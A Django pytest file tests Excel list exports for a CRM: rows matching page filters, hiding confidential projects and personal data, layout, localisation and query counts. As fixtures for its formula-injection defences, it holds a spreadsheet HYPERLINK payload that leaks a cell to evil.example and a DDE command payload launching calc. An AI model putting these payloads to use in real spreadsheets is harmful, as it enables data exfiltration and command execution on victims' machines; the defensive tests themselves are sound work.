"""List exports: the page's rows for the page's query string, laid out for Excel, safely."""

from __future__ import annotations

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.db import connection
from django.http import QueryDict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from accounts.models import Role
from crm.models import Contact, Interaction
from crm.selectors import institution_list_page
from pipeline.models import Project
from pipeline.selectors import project_list_page
from plans.models import Category
from spreadsheets import exports
from tests.factories import (
    BuildingFactory,
    ContactFactory,
    InstitutionFactory,
    MembershipFactory,
    TeamFactory,
    UserFactory,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
]


def export_url(kind: str, query: str = "") -> str:
    url = reverse("spreadsheets:list_export", args=[kind])
    return "%s?%s" % (url, query) if query else url


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client


def download(user, kind: str, query: str = ""):
    """The export's response, its workbook's only sheet, and the file itself."""
    response = signed_in(user).get(export_url(kind, query))
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content)
    return response, load_workbook(io.BytesIO(content)).active, content


def table(sheet) -> list[dict[str, object]]:
    """The sheet's rows as dicts keyed by header."""
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


# ---------------------------------------------------------------- the page's rows


@pytest.fixture
def register(world):
    """A register of eight institutions around the world's, of two teams and statuses."""
    other_team = TeamFactory(name="C组")
    for n in range(4):
        InstitutionFactory(
            name_zh="瀚海%d号基金" % n, status="landed", team=world.team_a, owner=None
        )
        InstitutionFactory(
            name_zh="星河%d号银行" % n, status="prospect", team=other_team, country="GB"
        )
    return world


@pytest.mark.parametrize(
    "query",
    ["", "status=landed", "q=瀚海", "country=GB", "sort=-name_zh", "sort=type&status=prospect"],
)
def test_institution_export_lists_the_rows_the_page_lists(register, query):
    analyst = register.people["analyst"]
    params = QueryDict(query)
    _filterset, page = institution_list_page(user=analyst, params=params, page=1, per_page=100)
    _response, sheet, _content = download(analyst, "institutions", query)
    names = [row["中文名称"] for row in table(sheet)]
    assert names == [institution.name_zh for institution in page.object_list]
    assert names  # every case lists something


def test_institution_export_filters_by_team(register):
    officer = register.people["officer_a"]
    query = "team=%d" % register.team_a.pk
    _response, sheet, _content = download(officer, "institutions", query)
    rows = table(sheet)
    assert {row["团队"] for row in rows} == {"A组"}
    assert len(rows) == 5  # the world's own and the four 瀚海 funds


@pytest.mark.parametrize(
    "query", ["", "q=猎鹰", "confidential=true", "sort=-capital", "stage_kind=open&sort=stage"]
)
def test_project_export_lists_the_rows_the_page_lists(world, query):
    officer = world.people["officer_a2"]
    for n in range(3):
        Project.objects.create(
            institution=world.institution,
            title="设立分公司%d" % n,
            owner=officer,
            team=world.team_a,
            expected_registered_capital=Decimal(1000 * (n + 1)),
        )
    _filterset, page = project_list_page(
        user=officer, params=QueryDict(query), page=1, per_page=100
    )
    _response, sheet, _content = download(officer, "projects", query)
    shown = [row["项目名称"] or row["代号"] for row in table(sheet)]
    expected = [p.code_name if p.pk == world.secret.pk else p.title for p in page.object_list]
    assert shown == expected


def test_it_hides_other_teams_projects(world):
    _response, sheet, _content = download(world.people["officer_b"], "projects")
    assert table(sheet) == []


def test_a_confidential_project_shows_only_its_code_name_to_those_it_is_not_named_to(world):
    secret = world.secret
    secret.expected_registered_capital = Decimal("88000")
    secret.expected_year, secret.expected_quarter = 2027, 2
    secret.lost_note = "对方在比较新加坡"
    secret.save()
    rows = {row["代号"]: row for row in table(download(world.people["officer_a2"], "projects")[1])}
    coded = rows["猎鹰"]
    assert coded["保密"] == "是"
    assert coded["项目名称"] is None and coded["机构"] is None
    assert coded["统一社会信用代码"] is None
    assert coded["预计注册资本（万）"] is None and coded["预计落地时间"] is None
    assert coded["流失说明"] is None
    assert coded["负责人"] == str(world.people["officer_a"])  # as the list shows it
    assert "收购某券商股权" not in str(rows) and "瀚海" not in str(coded)

    named = {row["代号"]: row for row in table(download(world.people["officer_a"], "projects")[1])}[
        "猎鹰"
    ]
    assert named["项目名称"] == "收购某券商股权"
    assert named["机构"] == "瀚海资产管理有限公司"
    assert named["预计注册资本（万）"] == 88000
    assert named["预计落地时间"] == "2027Q2"


def test_a_filter_on_the_institution_does_not_find_coded_projects(world):
    _response, sheet, _content = download(world.people["officer_a2"], "projects", "country=US")
    assert [row["项目名称"] for row in table(sheet)] == ["设立公募基金子公司"]


# ---------------------------------------------------------------- contacts and interactions


def test_contacts_give_names_and_positions_to_those_who_may_not_handle_personal_data(world):
    rows = table(download(world.people["analyst"], "contacts")[1])
    assert rows == [
        {
            "机构": "瀚海资产管理有限公司",
            "统一社会信用代码": None,
            "姓名": "李想",
            "英文名称": None,
            "职务": "总经理",
            "主要联系人": "否",
            "请勿联系": "否",
            "持有依据": "公开的商业信息",
        }
    ]


def test_contacts_give_phone_and_email_to_admins_and_skip_erased_ones(world):
    ContactFactory(
        institution=world.institution, name="王五", do_not_contact=True, phone="=cmd|' /C calc'!A0"
    )
    Contact.objects.create(
        institution=world.institution, lawful_basis="public", erased_at=timezone.now()
    )
    _response, sheet, _content = download(world.people["admin"], "contacts")
    rows = {row["姓名"]: row for row in table(sheet)}
    assert set(rows) == {"李想", "王五"}
    assert rows["李想"]["电子邮箱"] == world.contact.email
    assert rows["王五"]["请勿联系"] == "是"
    assert rows["王五"]["电话"] == "=cmd|' /C calc'!A0"
    phones = [row[5] for row in sheet.iter_rows(min_row=2)]
    assert sheet["F1"].value == "电话" and {cell.data_type for cell in phones} == {"s"}


def test_interactions_are_those_the_user_may_see_of_the_listed_institutions(world):
    officer = world.people["officer_a"]
    other = InstitutionFactory(name_zh="星河银行")
    a_month_ago = timezone.localdate() - datetime.timedelta(days=30)
    Interaction.objects.create(
        institution=other,
        kind="call",
        date=a_month_ago,
        summary="B组电话",
        team=world.team_b,
        created_by=world.people["officer_b"],
    )
    coded = Interaction.objects.create(
        institution=world.institution,
        kind="meeting",
        date=a_month_ago,
        summary="谈收购",
        team=world.team_a,
        created_by=officer,
        project=world.secret,
    )
    coded.officers.set([officer, world.people["officer_a2"]])
    coded.contacts.set([world.contact])

    rows = table(download(world.people["officer_a2"], "interactions")[1])
    assert [row["摘要"] for row in rows] == ["A组拜访瀚海", "谈收购"]
    meeting = rows[1]
    assert meeting["日期"].date() == a_month_ago
    assert meeting["在场招商人员"] == "%s、%s" % (officer, world.people["officer_a2"])
    assert meeting["在场联系人"] == "李想"
    assert meeting["招商项目"] == "猎鹰"  # not named to officer_a2: the code name

    rows = table(download(officer, "interactions", "q=瀚海")[1])
    assert {row["招商项目"] for row in rows} == {None, "收购某券商股权"}
    assert table(download(world.people["officer_b"], "interactions", "q=瀚海")[1]) == []


# ---------------------------------------------------------------- the workbook


def test_the_workbook_is_laid_out_for_reading_and_printing(world):
    institution = world.institution
    institution.registered_capital = Decimal("12345.6")
    institution.last_contacted_on = datetime.date(2026, 3, 5)
    institution.save()
    _response, sheet, _content = download(world.people["analyst"], "institutions")
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb == "FFDCE6F1"
    assert sheet.auto_filter.ref == "A1:W2"
    cells = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))
    capital = cells["注册资本(万)"]
    assert capital.value == 12345.6 and capital.number_format == "#,##0.00"
    contacted = cells["最近接洽"]
    assert contacted.is_date and contacted.number_format == "yyyy-mm-dd"
    assert contacted.value == datetime.datetime(2026, 3, 5)
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"


def test_projects_carry_percent_and_integer_formats(world):
    Project.objects.filter(pk=world.project.pk).update(probability=40, expected_jobs=1200)
    _response, sheet, _content = download(world.people["officer_a"], "projects")
    row = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == world.project.title)
    cells = dict(zip([c.value for c in sheet[1]], row, strict=True))
    assert cells["落地概率（%）"].value == 0.4 and cells["落地概率（%）"].number_format == "0%"
    assert cells["预计就业人数"].value == 1200 and cells["预计就业人数"].number_format == "#,##0"


@pytest.mark.parametrize("language, first", [("zh-hans", "中文名称"), ("en", "Chinese name")])
def test_headers_and_file_name_are_in_the_users_language(world, language, first):
    analyst = world.people["analyst"]
    analyst.language = language
    analyst.save()
    response, sheet, _content = download(analyst, "institutions")
    assert sheet["A1"].value == first
    exporter = exports.InstitutionExporter(user=analyst, params={})
    with translation.override(language):
        assert [c.value for c in sheet[1]] == [str(column.header) for column in exporter.columns]
        assert sheet.title == gettext("Institution list")
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert timezone.localdate().isoformat() + ".xlsx" in disposition
    if language == "en":
        assert 'filename="Institution list-' in disposition
    assert "no-store" in response["Cache-Control"]


def test_a_chinese_file_name_reaches_the_browser_intact(world, monkeypatch):
    monkeypatch.setattr(exports.InstitutionExporter, "verbose_name", "机构名单")
    response, sheet, _content = download(world.people["analyst"], "institutions")
    today = timezone.localdate().isoformat()
    assert (
        "filename*=utf-8''%E6%9C%BA%E6%9E%84%E5%90%8D%E5%8D%95-" + today
        in response["Content-Disposition"]
    )
    assert sheet.title == "机构名单"


def test_an_empty_list_is_still_a_workbook_with_its_headers(world):
    _response, sheet, _content = download(world.people["viewer"], "institutions", "q=不存在的机构")
    assert sheet["A1"].value == "中文名称"
    assert sheet.max_row == 1
    assert sheet.auto_filter.ref == "A1:W1"


# ---------------------------------------------------------------- formula injection


class Values(exports.ListExporter):
    identifier = "test-values"
    verbose_name = "values"
    columns = [exports.Column("value", "value", width=40)]

    def __init__(self, values):
        super().__init__(user=None, params={})
        self.values = values

    def rows(self):
        return ([value] for value in self.values)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_text_that_looks_like_a_formula_stays_text(value):
    target = io.BytesIO()
    exports.write_workbook(Values([value]), target)
    cell = load_workbook(target)["values"]["A2"]
    assert cell.data_type == "s"
    assert unescape(cell.value) == value  # unchanged, CR written as Excel writes it
    assert cell.quotePrefix  # and Excel keeps it text when the cell is edited
    sheet_xml = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_ordinary_text_carries_no_quote_prefix_and_markup_is_escaped():
    target = io.BytesIO()
    exports.write_workbook(Values(["A & <B>", " 前后空格 ", "a_x000D_b", "x\x01y"]), target)
    cells = [row[0] for row in load_workbook(target)["values"].iter_rows(min_row=2)]
    assert [cell.value for cell in cells[:2]] == ["A & <B>", " 前后空格 "]
    assert unescape(cells[2].value) == "a_x000D_b"  # a literal stays a literal
    assert unescape(cells[3].value) == "x\x01y"
    assert not any(cell.quotePrefix for cell in cells)


def test_formulas_typed_into_the_register_export_as_text(world):
    institution = world.institution
    institution.description = FORMULAS[0]
    institution.website = ""
    institution.save()
    InstitutionFactory(name_zh="=1+1", name_en="@SUM(A1)")
    _response, sheet, content = download(world.people["analyst"], "institutions")
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert FORMULAS[0] in [cell.value for cell in cells]
    assert "=1+1" in [cell.value for cell in cells]
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


# ---------------------------------------------------------------- limits and errors


def test_rows_beyond_a_worksheet_are_left_out_with_a_note(monkeypatch):
    monkeypatch.setattr(exports, "MAX_ROWS", 4)
    target = io.BytesIO()
    assert exports.write_workbook(Values(["a", "b", "c", "d", "e"]), target) == 3
    values = [row[0] for row in load_workbook(target)["values"].iter_rows(values_only=True)]
    assert values[1:4] == ["a", "b", "c"]
    assert "3" in values[4] and len(values) == 5


def test_an_unknown_list_is_not_found(world):
    assert signed_in(world.people["admin"]).get(export_url("secrets")).status_code == 404


def test_an_export_is_read_only(world):
    response = signed_in(world.people["admin"]).post(export_url("institutions"))
    assert response.status_code == 405


def test_bad_filters_are_ignored_as_on_the_page(world):
    _response, sheet, _content = download(
        world.people["analyst"], "institutions", "status=nonsense&team=abc&sort=%00"
    )
    assert sheet.max_row >= 1


# ---------------------------------------------------------------- queries


def _register_of(size: int, *, team, owner, building, category) -> None:
    for n in range(size):
        institution = InstitutionFactory(
            name_zh="批量%03d" % n, owner=owner, team=team, building=building
        )
        institution.categories.set([category])
        institution.aliases.create(name="别名%03d" % n)
        contact = ContactFactory(institution=institution)
        project = Project.objects.create(
            institution=institution, title="项目%03d" % n, owner=owner, team=team
        )
        project.categories.set([category])
        interaction = Interaction.objects.create(
            institution=institution,
            project=project,
            kind="visit",
            date=datetime.date(2026, 1, 1),
            summary="拜访",
            team=team,
            created_by=owner,
        )
        interaction.officers.set([owner])
        interaction.contacts.set([contact])


def _queries(client: Client, kind: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        b"".join(client.get(export_url(kind)).streaming_content)
    return len(captured)


@pytest.mark.parametrize("kind", sorted(exports.EXPORTERS))
def test_the_number_of_queries_does_not_grow_with_the_rows(
    db, plan, kind, django_assert_max_num_queries
):
    team = TeamFactory(name="批量组")
    owner = UserFactory(username="batch-owner")
    MembershipFactory(user=owner, team=team, role=Role.MANAGER)
    admin = UserFactory(username="batch-admin")
    MembershipFactory(user=admin, team=team, role=Role.ADMIN)
    common = {
        "team": team,
        "owner": owner,
        "building": BuildingFactory(),
        "category": Category.objects.filter(plan=plan).first(),
    }
    client = signed_in(admin)
    _register_of(5, **common)
    few = _queries(client, kind)
    _register_of(45, **common)
    with django_assert_max_num_queries(few):
        response = client.get(export_url(kind))
        assert (
            len(table(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active)) >= 50
        )
